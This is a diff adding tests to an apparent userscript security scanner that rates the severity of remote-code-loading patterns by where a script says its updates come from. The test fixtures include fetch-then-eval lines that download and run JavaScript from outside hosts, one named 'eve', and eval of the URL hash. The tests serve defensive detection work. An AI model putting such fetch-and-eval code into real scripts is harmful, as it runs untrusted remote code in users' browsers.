@@ -100,4 +100,29 @@ describe("remote-code", () => {
 		expect(findIn(remoteCode, "eval(location.href)")).toEqual(["low 1"]);
 		expect(findIn(remoteCode, "eval(location.hash.slice(1))")).toEqual(["medium 1"]);
 	});
+
+	const from = (...head: string[]) =>
+		userscript(
+			["match https://shop.example/*", ...head],
+			`fetch("https://lib.author.test/a.js").then((r) => r.text()).then((text) => eval(text));`,
+		);
+
+	test.each([
+		["medium", ["updateURL https://www.author.test/script.user.js"]],
+		["medium", ["downloadURL https://lib.author.test/script.user.js"]],
+		["critical", ["updateURL http://www.author.test/script.user.js"]],
+		["critical", ["downloadURL https://github.com/ann/script/raw/main/a.user.js"]],
+		["critical", ["homepage https://www.author.test/"]],
+		["critical", []],
+	])("is %s when the script says %j of whom its updates are from", (severity, head) => {
+		expect(findIn(remoteCode, from(...head))).toEqual([`${severity} ${5 + head.length}`]);
+	});
+
+	test("does not take a place where anybody publishes for the owner of the updates", () => {
+		const code = userscript(
+			["match https://shop.example/*", "downloadURL https://ann.vercel.app/a.user.js"],
+			`fetch("https://eve.vercel.app/a.js").then((r) => r.text()).then((text) => eval(text));`,
+		);
+		expect(findIn(remoteCode, code)).toEqual(["critical 6"]);
+	});
 });
